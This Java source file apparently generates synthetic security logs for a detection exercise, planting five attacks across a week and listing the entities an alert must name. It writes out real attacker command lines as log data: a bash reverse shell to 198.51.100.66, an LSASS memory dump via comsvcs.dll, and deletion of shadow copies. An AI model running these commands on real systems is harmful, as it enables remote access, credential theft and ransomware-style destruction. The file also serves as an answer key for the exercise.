package eu.vigie.demo.day;

import eu.vigie.demo.line.LinuxHost;
import eu.vigie.demo.line.WindowsHost;
import java.time.Instant;
import java.time.LocalDate;
import java.time.LocalTime;
import java.util.List;
import java.util.Random;

/** Five attacks, one a day from Monday to Friday, each on other machines and by other means. */
public final class Attacks {
    /**
     * What must be found.
     *
     * @param day days after Monday
     * @param entities of which one must be named by an alert of that day, in the form {@code kind:value}
     */
    public record Planted(String name, int day, List<String> entities) {
        public Planted {
            entities = List.copyOf(entities);
        }
    }

    private static final String GUESSER = "203.0.113.9";
    private static final String SPRAYER = "10.20.30.77";

    private final Organisation organisation;
    private final Random random;

    Attacks(Organisation organisation, Random random) {
        this.organisation = organisation;
        this.random = random;
    }

    /** All five, in the order of time. */
    public static List<Planted> all() {
        return List.of(
                new Planted("the password of an account is guessed over SSH", 0, List.of("address:" + GUESSER)),
                new Planted("a web server opens a shell to the outside", 1, List.of("host:srv-web-02")),
                new Planted(
                        "one address tries a password on many accounts of Windows", 2, List.of("address:" + SPRAYER)),
                new Planted(
                        "shadow copies are deleted and the memory of the logon process is dumped",
                        3,
                        List.of("host:srv-erp-01.laverdin.example", "host:srv-erp-01")),
                new Planted(
                        "an intruder makes an account, silences the audit and takes files",
                        4,
                        List.of("host:" + Intrusion.SERVER, "address:" + Intrusion.ATTACKER)));
    }

    void run(LocalDate monday) {
        guess(Week.at(monday, LocalTime.of(23, 10)));
        shell(Week.at(monday.plusDays(1), LocalTime.of(14, 5)));
        spray(Week.at(monday.plusDays(2), LocalTime.of(11, 0)));
        ransom(Week.at(monday.plusDays(3), LocalTime.of(20, 15)));
        new Intrusion(organisation, random).run(Week.at(monday.plusDays(4), LocalTime.of(2, 41)));
    }

    private void guess(Instant start) {
        LinuxHost host = organisation.linux("srv-git-01");
        Instant at = start;
        for (int i = 0; i < 30; i++) {
            host.say(
                    at,
                    "sshd",
                    host.pid(),
                    "Failed password for git from " + GUESSER + " port " + (33_000 + random.nextInt(20_000)) + " ssh2");
            at = at.plusSeconds(4);
        }
        int pid = host.pid();
        host.say(at, "sshd", pid, "Accepted password for git from " + GUESSER + " port 51111 ssh2");
        host.opened(at, "git", pid);
    }

    private void shell(Instant start) {
        LinuxHost host = organisation.linux("srv-web-02");
        host.sudo(start, "www-data", "/usr/bin/bash -c bash -i >& /dev/tcp/198.51.100.66/4444 0>&1");
    }

    private void spray(Instant start) {
        WindowsHost controller = organisation.windows("srv-dc-01");
        Instant at = start;
        for (String name : Organisation.EMPLOYEES) {
            controller.wrongPassword(at, name, SPRAYER);
            at = at.plusSeconds(3);
        }
        controller.logon(at, "b.jacquet", SPRAYER, 3);
    }

    private void ransom(Instant start) {
        WindowsHost host = organisation.windows("srv-erp-01");
        String logon = host.logon(start, "svc-erp", "10.20.11.31", 3);
        host.process(
                start.plusSeconds(40),
                "svc-erp",
                logon,
                "C:\\Windows\\System32\\rundll32.exe",
                "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\l.dmp full",
                "C:\\Windows\\System32\\cmd.exe");
        host.process(
                start.plusSeconds(300),
                "svc-erp",
                logon,
                "C:\\Windows\\System32\\vssadmin.exe",
                "vssadmin.exe delete shadows /all /quiet",
                "C:\\Windows\\System32\\cmd.exe");
    }
}
